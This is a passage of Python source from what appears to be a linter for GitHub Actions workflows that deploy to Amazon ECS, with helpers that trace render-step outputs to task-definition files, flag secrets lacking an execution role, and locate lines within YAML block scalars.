            yield Problem("taskdef-secrets-no-execution-role", wm.input_path(st, "secrets"),
                          "the `secrets` input adds secrets to the task definition this step "
                          "renders, which has no `executionRoleArn`: ECS cannot fetch them and "
                          "the task fails to start",
                          help="give the task definition an `executionRoleArn` that may read "
                               "those secrets")


_RENDER_OUTPUT = lazy_re(r"^\$\{\{\s*steps\.([\w-]+)\.outputs\.task-definition\s*\}\}$")


def _render_source(job, st, github, root: str, depth: int = 0) -> Optional[dict]:
    """The task definition (data) of the repository's file a render step
    starts from, through earlier render steps' outputs; None when not known."""
    value = st.with_.get("task-definition")
    if not isinstance(value, str) or depth > 5:
        return None
    m = _RENDER_OUTPUT.match(value.strip())
    if m:
        prev = next((s for s in job.steps[:st.index]
                     if s.id == m.group(1) and s.uses == wm.ECS_RENDER), None)
        return _render_source(job, prev, github, root, depth + 1) if prev else None
    return _taskdef_file(job, st, value, github, root)


def _taskdef_file(job, st, value, github, root: str) -> Optional[dict]:
    """The task definition of the repository's file a step's input names (a
    path once resolved; `{"taskDefinition": ...}` as describe prints it too),
    read through `probes`; None when the path or the file is not known."""
    raw = wm.resolve(value, job, st, github=github)
    if not isinstance(raw, str) or "$" in raw or not raw.strip():
        return None
    data = wm.read_local_yaml(os.path.join(root, raw.strip().removeprefix("./")), 4_000_000)
    data = data.get("taskDefinition", data) if isinstance(data, dict) else None
    return data if isinstance(data, dict) and isinstance(
        data.get("containerDefinitions"), list) else None


def _has_secrets(taskdef: dict) -> bool:
    return any(isinstance(c, dict) and (c.get("secrets") or c.get("repositoryCredentials"))
               for c in taskdef.get("containerDefinitions") or [])


def _line_in_input(doc, st, name, n):
    """The span of line `n` of a block-scalar input (`|`), or None (the input's)."""
    return None if st.via else _line_in_block(doc, wm.input_path(st, name), n)


def _line_in_block(doc, path, n, needle=None):
    """The span of line `n` of the block scalar (`|`, `>`) at `path` (of
    `needle` on it, when it is there), or None (not a block scalar)."""
    from ecs_lint.model import Span

    at = doc.span(path)
    lines = (doc.text or "").splitlines()
    if at is None or not (0 < at.line <= len(lines)) or not lines[at.line - 1].rstrip() \
            .endswith(("|", "|-", "|+", ">", ">-")):
        return None
    line = at.line + 1 + n
    while line <= len(lines) and not lines[line - 1].strip() and n >= 0:
        line += 1
    if line > len(lines):
        return None
    text = lines[line - 1]
    col = text.find(needle) if needle else -1
    return Span(line, col + 1 if col >= 0 else len(text) - len(text.lstrip()) + 1)
